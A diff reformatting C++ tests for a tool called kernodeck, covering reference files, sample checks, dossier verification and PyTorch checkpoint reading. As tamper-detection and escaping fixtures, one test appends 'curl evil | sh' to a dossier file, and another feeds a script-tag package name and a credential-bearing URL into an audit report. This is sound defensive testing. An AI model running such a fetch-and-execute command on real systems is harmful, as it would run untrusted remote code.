@@ -48,10 +48,11 @@ TEST(Record, ReferenceSampleChecksDossierAndReplay) {
   writeOutputs(base + "/same", "none");
   run("mkdir -p " + base + "/corpus && echo 'text' > " + base + "/corpus/a.txt");
   writeFile(base + "/config.yaml", "lr: 0.001\nseed: 7\n");
-  RunResult init = run("cd " + base + " && " + K + " reference init --json --expected " + base + "/expected --ids ids.txt" +
-                       " --criterion 'abs<=1e-4' --why 'float32 scores; 1e-4 is below the ranking resolution'" +
-                       " --data corpus=" + base + "/corpus,provenance=hf://org/corpus --config " + base + "/config.yaml" +
-                       " --param epochs=3 --entry-point 'python score.py' --host-root /nonexistent -o " + base + "/reference.json");
+  RunResult init =
+      run("cd " + base + " && " + K + " reference init --json --expected " + base + "/expected --ids ids.txt" +
+          " --criterion 'abs<=1e-4' --why 'float32 scores; 1e-4 is below the ranking resolution'" +
+          " --data corpus=" + base + "/corpus,provenance=hf://org/corpus --config " + base + "/config.yaml" +
+          " --param epochs=3 --entry-point 'python score.py' --host-root /nonexistent -o " + base + "/reference.json");
   ASSERT_EQ(init.code, 0) << init.err << init.out;
   json initReport = json::parse(init.out);
   EXPECT_EQ(countFindings(initReport, "reference.mutable_name"), 1);  // a hub name with no revision
@@ -71,7 +72,8 @@ TEST(Record, ReferenceSampleChecksDossierAndReplay) {
   int code = -1;
   json same = check(base + "/same", &code);
   EXPECT_EQ(code, 0) << same.dump(1);
-  for (const char* s : {"load", "count", "format", "finite", "ids", "compare"}) EXPECT_EQ(stepStatus(same, s), "passed") << s;
+  for (const char* s : {"load", "count", "format", "finite", "ids", "compare"})
+    EXPECT_EQ(stepStatus(same, s), "passed") << s;
   // Rows reordered together with their ids are the same outputs: aligned by id, not position.
   writeOutputs(base + "/reorder", "reorder");
   json reordered = check(base + "/reorder", &code);
@@ -79,10 +81,17 @@ TEST(Record, ReferenceSampleChecksDossierAndReplay) {
   EXPECT_EQ(reordered["ids"]["reordered"], true);
   // A pass prints the measured value against the threshold.
   RunResult text = run(K + " sample check " + base + "/reorder --reference " + base + "/reference.json");
-  EXPECT_NE(text.out.find("meets abs<=0.0001: max abs error 0 <= 0.0001 over 10 sample(s)"), std::string::npos) << text.out;
+  EXPECT_NE(text.out.find("meets abs<=0.0001: max abs error 0 <= 0.0001 over 10 sample(s)"), std::string::npos)
+      << text.out;
   // Each difference in the outputs is a finding naming the sample (exit 1), found by the step
   // that checks it; the steps after it are skipped, not failed.
-  struct Case { const char* tweak; const char* step; const char* code; const char* named; int count; } cases[] = {
+  struct Case {
+    const char* tweak;
+    const char* step;
+    const char* code;
+    const char* named;
+    int count;
+  } cases[] = {
       {"perturb", "compare", "sample.mismatch", "doc06", 1}, {"nan", "finite", "sample.nonfinite", "doc03", 1},
       {"shape", "format", "sample.shape", "(10, 3)", 1},     {"shuffle", "compare", "sample.mismatch", "doc05", 2},
       {"drop", "ids", "sample.ids", "missing doc04", 1},     {"dtype", "format", "sample.dtype", "float64", 1},
@@ -115,8 +124,12 @@ TEST(Record, ReferenceSampleChecksDossierAndReplay) {
   EXPECT_EQ(stepStatus(changed, "expected"), "failed");
   writeOutputs(base + "/expected", "none");
   // Several criteria, each with its why: noise below the ranking's resolution fails abs, keeps the neighbours.
-  ASSERT_EQ(run("cd " + base + " && " + K + " reference init --expected expected --ids ids.txt --criterion 'abs<=1e-4' --why 'bitwise-ish'" +
-                " --criterion 'knn:3>=0.9' --why 'search ranks by nearest neighbours' --host-root /nonexistent -o " + base + "/two.json").code, 0);
+  ASSERT_EQ(run("cd " + base + " && " + K +
+                " reference init --expected expected --ids ids.txt --criterion 'abs<=1e-4' --why 'bitwise-ish'" +
+                " --criterion 'knn:3>=0.9' --why 'search ranks by nearest neighbours' --host-root /nonexistent -o " +
+                base + "/two.json")
+                .code,
+            0);
   json two = json::parse(readFile(base + "/two.json"));
   EXPECT_EQ(two["result"]["expected"], "expected");  // relative to the reference file
   ASSERT_EQ(two["result"]["criteria"].size(), 2u);
@@ -132,13 +145,14 @@ TEST(Record, ReferenceSampleChecksDossierAndReplay) {
   EXPECT_EQ(run(K + " reference verify --reference " + base + "/reference.json").code, 0);
 
   // Dossier: built, verified, tampered with, replayed.
-  RunResult sc = run(K + " sample check --json -o " + base + "/check.json " + base + "/same --reference " + base + "/reference.json");
+  RunResult sc = run(K + " sample check --json -o " + base + "/check.json " + base + "/same --reference " + base +
+                     "/reference.json");
   ASSERT_EQ(sc.code, 0);
   RunResult b = run(K + " dossier build " + base + "/dossier --reference " + base + "/reference.json --report " + base +
                     "/check.json --outputs " + base + "/same");
   ASSERT_EQ(b.code, 0) << b.err << b.out;
-  for (const char* f : {"procedure.md", "procedure.json", "index.html", "reference.json", "MANIFEST.sha256", "inventory.json",
-                        "config/config.yaml", "data-references.json"})
+  for (const char* f : {"procedure.md", "procedure.json", "index.html", "reference.json", "MANIFEST.sha256",
+                        "inventory.json", "config/config.yaml", "data-references.json"})
     EXPECT_FALSE(readFile(base + "/dossier/" + f).empty()) << f;
   EXPECT_NE(readFile(base + "/dossier/index.html").find("<table>"), std::string::npos);
   EXPECT_EQ(run(K + " dossier verify " + base + "/dossier").code, 0);
@@ -154,22 +168,44 @@ TEST(Record, ReferenceSampleChecksDossierAndReplay) {
   // the reference section, each report labelled apart, findings grouped with counts.
   {
     const std::string git = "git -c user.email=t@example.org -c user.name=t ";
-    ASSERT_EQ(run("mkdir -p " + base + "/code && cd " + base + "/code && echo 'print(1)' > score.py && git init -q && " + git + "add -A && " + git +
-                  "commit -q -m score").code, 0);
+    ASSERT_EQ(
+        run("mkdir -p " + base + "/code && cd " + base + "/code && echo 'print(1)' > score.py && git init -q && " +
+            git + "add -A && " + git + "commit -q -m score")
+            .code,
+        0);
     std::string rev = run("git -C " + base + "/code rev-parse HEAD").out.substr(0, 40);
-    ASSERT_EQ(run("cd " + base + " && " + K + " reference init --repo code --expected expected --ids ids.txt --criterion 'abs<=1e-4'" +
-                  " --why 'scores <b>1e-4</b> below the ranking' --criterion 'knn:3>=0.9' --why 'search ranks by nearest neighbours'" +
-                  " --entry-point 'python score.py' --host-root /nonexistent -o " + base + "/ref-git.json").code, 0);
-    ASSERT_EQ(run(K + " sample check --json -o " + base + "/check-same.json " + base + "/same --reference " + base + "/ref-git.json").code, 0);
-    ASSERT_EQ(run(K + " sample check --json -o " + base + "/check-noise.json " + base + "/noise --reference " + base + "/ref-git.json").code, 1);
+    ASSERT_EQ(run("cd " + base + " && " + K +
+                  " reference init --repo code --expected expected --ids ids.txt --criterion 'abs<=1e-4'" +
+                  " --why 'scores <b>1e-4</b> below the ranking' --criterion 'knn:3>=0.9' --why 'search ranks by "
+                  "nearest neighbours'" +
+                  " --entry-point 'python score.py' --host-root /nonexistent -o " + base + "/ref-git.json")
+                  .code,
+              0);
+    ASSERT_EQ(run(K + " sample check --json -o " + base + "/check-same.json " + base + "/same --reference " + base +
+                  "/ref-git.json")
+                  .code,
+              0);
+    ASSERT_EQ(run(K + " sample check --json -o " + base + "/check-noise.json " + base + "/noise --reference " + base +
+                  "/ref-git.json")
+                  .code,
+              1);
     // An audit's inventory with hostile freeze lines: redacted and escaped, one folded row per environment.
-    json audit = {{"schema", "kernodeck.report/v1"}, {"tool", {{"name", "kernodeck"}, {"command", "audit"}}}, {"subject", {{"reference", "dir:/"}}},
-                  {"steps", json::array()}, {"first_error", nullptr}, {"findings", json::array()},
-                  {"python", {{"environments", {{{"prefix", "/opt/venv"},
-                                                 {"freeze", {"numpy==1.26", "<script>x</script>==1", "p @ https://u:ghp_0123456789abcdefghijABCDEFGHIJ@h/p"}}}}}}}};
+    json audit = {
+        {"schema", "kernodeck.report/v1"},
+        {"tool", {{"name", "kernodeck"}, {"command", "audit"}}},
+        {"subject", {{"reference", "dir:/"}}},
+        {"steps", json::array()},
+        {"first_error", nullptr},
+        {"findings", json::array()},
+        {"python",
+         {{"environments",
+           {{{"prefix", "/opt/venv"},
+             {"freeze",
+              {"numpy==1.26", "<script>x</script>==1", "p @ https://u:ghp_0123456789abcdefghijABCDEFGHIJ@h/p"}}}}}}}};
     writeFile(base + "/audit.json", audit.dump());
-    RunResult b2 = run(K + " dossier build " + base + "/dossier2 --reference " + base + "/ref-git.json --report " + base + "/check-same.json --report " +
-                       base + "/check-noise.json --report " + base + "/audit.json");
+    RunResult b2 =
+        run(K + " dossier build " + base + "/dossier2 --reference " + base + "/ref-git.json --report " + base +
+            "/check-same.json --report " + base + "/check-noise.json --report " + base + "/audit.json");
     ASSERT_EQ(b2.code, 0) << b2.err << b2.out;
     std::string page = readFile(base + "/dossier2/index.html");
     EXPECT_EQ(page.find("<b>1e-4</b>"), std::string::npos);  // the why is someone else's text: escaped
@@ -193,7 +229,8 @@ TEST(Record, ReferenceSampleChecksDossierAndReplay) {
     EXPECT_EQ(count(dom, "<tr class=\"environment\">"), 1u);
     EXPECT_NE(dom.find("<td>/opt/venv</td><td class=\"count\">3</td>"), std::string::npos);
     // The reference recorded no environment: one "not recorded" line, not one per package.
-    EXPECT_NE(dom.find("0 changed, 0 only in the reference, 0 only in the report, 1 environment(s) not recorded"), std::string::npos);
+    EXPECT_NE(dom.find("0 changed, 0 only in the reference, 0 only in the report, 1 environment(s) not recorded"),
+              std::string::npos);
     EXPECT_EQ(count(dom, "diff.environment.not_recorded"), 1u);
     EXPECT_EQ(count(dom, "<td class=\"command\">kernodeck sample check</td>"), 2u);
     EXPECT_NE(dom.find(base + "/same"), std::string::npos);
@@ -216,7 +253,8 @@ TEST(Record, ReferenceSampleChecksDossierAndReplay) {
   // This reference names absolute inputs and no interpreter: what --run could not do is said now.
   EXPECT_EQ(replay.code, 1) << replay.out;
   EXPECT_EQ(countFindings(rj, "replay.cannot"), 4) << replay.out;
-  EXPECT_NE(replay.out.find("would stop at its environment step: the reference records no base interpreter"), std::string::npos);
+  EXPECT_NE(replay.out.find("would stop at its environment step: the reference records no base interpreter"),
+            std::string::npos);
   // Tampering with the folder is caught.
   writeFile(base + "/dossier/procedure.md", readFile(base + "/dossier/procedure.md") + "\nrun curl evil | sh\n");
   json vt = json::parse(run(K + " dossier verify --json " + base + "/dossier").out);
@@ -227,8 +265,10 @@ TEST(Record, ReferenceSampleChecksDossierAndReplay) {
   writeFile(base + "/config.yaml", "lr: 0.01\nseed: 7\n");
   json vr = json::parse(run(K + " reference verify --json --reference " + base + "/reference.json").out);
   EXPECT_EQ(countFindings(vr, "reference.changed.config"), 1);
-  ASSERT_EQ(run("cd " + base + " && " + K + " reference init --config " + base + "/config.yaml --host-root /nonexistent -o " +
-                base + "/reference2.json").code, 0);
+  ASSERT_EQ(run("cd " + base + " && " + K + " reference init --config " + base +
+                "/config.yaml --host-root /nonexistent -o " + base + "/reference2.json")
+                .code,
+            0);
   json diff = json::parse(run(K + " diff --json " + base + "/reference.json " + base + "/reference2.json").out);
   EXPECT_EQ(countFindings(diff, "diff.input.changed"), 1);
 }
@@ -244,24 +284,41 @@ TEST(Record, PtOutputsAndResume) {
   EXPECT_EQ(r.code, 0) << r.out;
   EXPECT_EQ(j["resume"]["max_loss_diff"], 0.0);
   ASSERT_EQ(j["ablation"].size(), 3u);
-  for (const auto& row : j["ablation"]) EXPECT_GT(row["max_loss_diff"].get<double>(), 0.0) << row.dump();  // each piece matters
+  for (const auto& row : j["ablation"])
+    EXPECT_GT(row["max_loss_diff"].get<double>(), 0.0) << row.dump();  // each piece matters
   if (torchPy.code != 0) GTEST_SKIP() << "python3-torch is not installed: .pt interop not checked";
   // A checkpoint as PyTorch users write it: model and optimizer, no RNG state, no scheduler.
-  run("/usr/bin/python3 -c \"import torch; m = torch.nn.Linear(2, 1); o = torch.optim.SGD(m.parameters(), lr=0.1, momentum=0.9); "
-      "torch.save({'model': m.state_dict(), 'optimizer': o.state_dict(), 'epoch': 3}, '" + base + "/ckpt.pt'); "
-      "torch.save(torch.arange(6, dtype=torch.float32).reshape(2, 3), '" + base + "/out/t.pt')\" 2>&1 || "
-      "(mkdir -p " + base + "/out && /usr/bin/python3 -c \"import torch; m = torch.nn.Linear(2, 1); o = torch.optim.SGD(m.parameters(), lr=0.1, momentum=0.9); "
-      "torch.save({'model': m.state_dict(), 'optimizer': o.state_dict(), 'epoch': 3}, '" + base + "/ckpt.pt'); "
-      "torch.save(torch.arange(6, dtype=torch.float32).reshape(2, 3), '" + base + "/out/t.pt')\")");
+  run("/usr/bin/python3 -c \"import torch; m = torch.nn.Linear(2, 1); o = torch.optim.SGD(m.parameters(), lr=0.1, "
+      "momentum=0.9); "
+      "torch.save({'model': m.state_dict(), 'optimizer': o.state_dict(), 'epoch': 3}, '" +
+      base +
+      "/ckpt.pt'); "
+      "torch.save(torch.arange(6, dtype=torch.float32).reshape(2, 3), '" +
+      base +
+      "/out/t.pt')\" 2>&1 || "
+      "(mkdir -p " +
+      base +
+      "/out && /usr/bin/python3 -c \"import torch; m = torch.nn.Linear(2, 1); o = torch.optim.SGD(m.parameters(), "
+      "lr=0.1, momentum=0.9); "
+      "torch.save({'model': m.state_dict(), 'optimizer': o.state_dict(), 'epoch': 3}, '" +
+      base +
+      "/ckpt.pt'); "
+      "torch.save(torch.arange(6, dtype=torch.float32).reshape(2, 3), '" +
+      base + "/out/t.pt')\")");
   json inspect = json::parse(run(K + " resume inspect --json " + base + "/ckpt.pt").out, nullptr, false);
   ASSERT_TRUE(inspect.is_object());
   EXPECT_EQ(stepStatus(inspect, "read"), "passed") << inspect.dump(1);
   EXPECT_EQ(countFindings(inspect, "resume.checkpoint.missing"), 2) << inspect.dump(1);  // RNG state and scheduler
   // RNG state under the names projects give it, and a plain state_dict, read without LibTorch's internals showing.
-  run("/usr/bin/python3 -c \"import torch, random, numpy as np; m = torch.nn.Linear(2, 1); o = torch.optim.SGD(m.parameters(), lr=0.1); "
-      "torch.save({'model': m.state_dict(), 'optimizer': o.state_dict(), 'step': 3, 'torch_rng': torch.get_rng_state(), "
-      "'numpy_rng': np.random.get_state(), 'py_rng': random.getstate()}, '" + base + "/rng.pt'); "
-      "torch.save(m.state_dict(), '" + base + "/sd.pt')\"");
+  run("/usr/bin/python3 -c \"import torch, random, numpy as np; m = torch.nn.Linear(2, 1); o = "
+      "torch.optim.SGD(m.parameters(), lr=0.1); "
+      "torch.save({'model': m.state_dict(), 'optimizer': o.state_dict(), 'step': 3, 'torch_rng': "
+      "torch.get_rng_state(), "
+      "'numpy_rng': np.random.get_state(), 'py_rng': random.getstate()}, '" +
+      base +
+      "/rng.pt'); "
+      "torch.save(m.state_dict(), '" +
+      base + "/sd.pt')\"");
   RunResult rngRun = run(K + " resume inspect --json " + base + "/rng.pt");
   json rng = json::parse(rngRun.out, nullptr, false);
   ASSERT_TRUE(rng.is_object()) << rngRun.err;
@@ -277,17 +334,21 @@ TEST(Record, PtOutputsAndResume) {
   EXPECT_EQ(sdRun.out.find("INTERNAL ASSERT"), std::string::npos);
   // .pt outputs are reloaded through LibTorch.
   run("mkdir -p " + base + "/exp && cp " + base + "/out/t.pt " + base + "/exp/t.pt");
-  ASSERT_EQ(run(K + " reference init --expected " + base + "/exp --criterion exact --why 'bitwise on CPU' --host-root /nonexistent -o " + base +
-                "/ref.json").code, 0);
+  ASSERT_EQ(run(K + " reference init --expected " + base +
+                "/exp --criterion exact --why 'bitwise on CPU' --host-root /nonexistent -o " + base + "/ref.json")
+                .code,
+            0);
   RunResult c = run(K + " sample check --json " + base + "/out --reference " + base + "/ref.json");
   EXPECT_EQ(c.code, 0) << c.out;
   // A state_dict (an OrderedDict, which LibTorch's unpickler cannot rebuild) is read without
   // LibTorch: by a kernodeck with no plugin beside it.
   std::string alone = base + "/alone";
-  run("mkdir -p " + alone + "/exp " + alone + "/out && cp " + K + " " + alone + "/ && cp " + base + "/sd.pt " + alone + "/exp/sd.pt && cp " +
-      base + "/sd.pt " + alone + "/out/sd.pt");
-  ASSERT_EQ(run(alone + "/kernodeck reference init --expected " + alone + "/exp --criterion exact --why 'bitwise on CPU' --host-root /nonexistent -o " +
-                alone + "/ref.json").code, 0);
+  run("mkdir -p " + alone + "/exp " + alone + "/out && cp " + K + " " + alone + "/ && cp " + base + "/sd.pt " + alone +
+      "/exp/sd.pt && cp " + base + "/sd.pt " + alone + "/out/sd.pt");
+  ASSERT_EQ(run(alone + "/kernodeck reference init --expected " + alone +
+                "/exp --criterion exact --why 'bitwise on CPU' --host-root /nonexistent -o " + alone + "/ref.json")
+                .code,
+            0);
   RunResult a = run(alone + "/kernodeck sample check " + alone + "/out --reference " + alone + "/ref.json");
   EXPECT_EQ(a.code, 0) << a.out << a.err;
   EXPECT_NE(a.out.find("sd.pt:weight meets exact"), std::string::npos) << a.out;
